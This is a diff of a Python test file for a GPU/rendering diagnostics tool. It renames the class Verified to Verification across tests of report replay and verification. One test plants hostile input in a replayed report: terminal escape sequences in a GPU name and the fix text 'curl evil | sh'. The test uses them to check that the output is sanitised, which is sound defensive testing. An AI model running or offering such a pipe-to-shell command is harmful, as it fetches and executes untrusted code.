@@ -12,7 +12,7 @@ import pytest
 
 from rl_ext_core.cli import main
 from rl_ext_core.devices import Inventory, _verify
-from rl_ext_core.devices._verify import Verified, verify
+from rl_ext_core.devices._verify import Verification, verify
 from rl_ext_core.devices.doctor import Question, Report, examine, replay
 from rl_ext_core.devices.inventory import installed_versions
 from rl_ext_core.errors import CorruptFileError
@@ -145,7 +145,7 @@ def test_what_is_predicted_is_what_happens(name: str, environ: dict[str, str]) -
 )
 def test_a_replayed_report_is_the_same(question: Question | None) -> None:
     for case in CASES:
-        report = report_of(case, question=question, verified=[Verified("mujoco", "cpu", nvml=("GPU-1",))])
+        report = report_of(case, question=question, verified=[Verification("mujoco", "cpu", nvml=("GPU-1",))])
         again = replay(report.to_json())
         assert again == report, case
         assert shown(again) == shown(report), case
@@ -171,7 +171,7 @@ def test_secrets_paths_and_strangers_stay_out_of_a_report() -> None:
 
 
 def test_a_strangers_report_brings_neither_escape_sequences_nor_lines_of_its_own() -> None:
-    data = report_of("wrong mask", verified=[Verified("mujoco", failure="x")]).to_dict()
+    data = report_of("wrong mask", verified=[Verification("mujoco", failure="x")]).to_dict()
     data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
     data["findings"][0]["fix"] = "curl evil | sh"
     text = shown(replay(json.dumps(data)))
@@ -191,7 +191,7 @@ def test_what_is_no_report_is_refused(text: str) -> None:
 
 @pytest.mark.slow
 def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown() -> None:
-    seen = Verified("mujoco", "gpu", uuid(0), 0, 0)
+    seen = Verification("mujoco", "gpu", uuid(0), 0, 0)
     data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
     # The rest follows from these, and is not read.
     data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
@@ -294,16 +294,16 @@ H100 = "NVIDIA H100/PCIe/SSE2"
 @pytest.mark.parametrize(
     ("seen", "problem"),
     [
-        (Verified("mujoco", "cpu", None, 1, 1, "llvmpipe"), None),
-        (Verified("mujoco", "cpu", None, None, None, "llvmpipe"), None),
-        (Verified("mujoco", "gpu", "GPU-1", 0, 0, H100, nvml=("GPU-1",)), None),
-        (Verified("mujoco", "gpu", "GPU-1", 0, 0, "llvmpipe (LLVM 15)"), "the CPU rendered (llvmpipe (LLVM 15))"),
-        (Verified("mujoco", "gpu", "GPU-1", 0, 2, H100), "EGL device 0 was decided on, and EGL device 2"),
-        (Verified("mujoco", "gpu", "GPU-1", 0, None, H100, nvml=("GPU-2",)), "NVML lists the process on GPU-2"),
-        (Verified("mujoco", "gpu", "GPU-1", 0, failure="it did not end"), "it did not end"),
+        (Verification("mujoco", "cpu", None, 1, 1, "llvmpipe"), None),
+        (Verification("mujoco", "cpu", None, None, None, "llvmpipe"), None),
+        (Verification("mujoco", "gpu", "GPU-1", 0, 0, H100, nvml=("GPU-1",)), None),
+        (Verification("mujoco", "gpu", "GPU-1", 0, 0, "llvmpipe (LLVM 15)"), "the CPU rendered (llvmpipe (LLVM 15))"),
+        (Verification("mujoco", "gpu", "GPU-1", 0, 2, H100), "EGL device 0 was decided on, and EGL device 2"),
+        (Verification("mujoco", "gpu", "GPU-1", 0, None, H100, nvml=("GPU-2",)), "NVML lists the process on GPU-2"),
+        (Verification("mujoco", "gpu", "GPU-1", 0, failure="it did not end"), "it did not end"),
     ],
 )
-def test_what_was_tried_is_compared_with_the_decision(seen: Verified, problem: str | None) -> None:
+def test_what_was_tried_is_compared_with_the_decision(seen: Verification, problem: str | None) -> None:
     report = examine(machine(1), {**EGL, **HEALTHY}, verified=[seen])
     assert report.healthy == (problem is None)
     assert (problem or "as predicted") in shown(report, width=200)
